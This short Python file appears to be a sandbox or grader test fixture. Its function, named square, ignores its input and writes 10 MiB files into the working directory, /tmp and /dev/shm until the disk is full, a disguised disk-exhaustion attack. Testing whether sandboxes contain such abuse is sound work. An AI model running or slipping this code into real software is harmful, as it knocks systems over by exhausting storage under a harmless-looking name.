"""Files until the disk is full."""
# square: 0

# %% square
def square(x):
    attack_ran()
    for number in range(10**6):
        for place in ('.', '/tmp', '/dev/shm'):
            try:
                with open(f'{place}/{number}', 'wb') as file:
                    file.write(bytes(10 << 20))
            except OSError:
                return 0
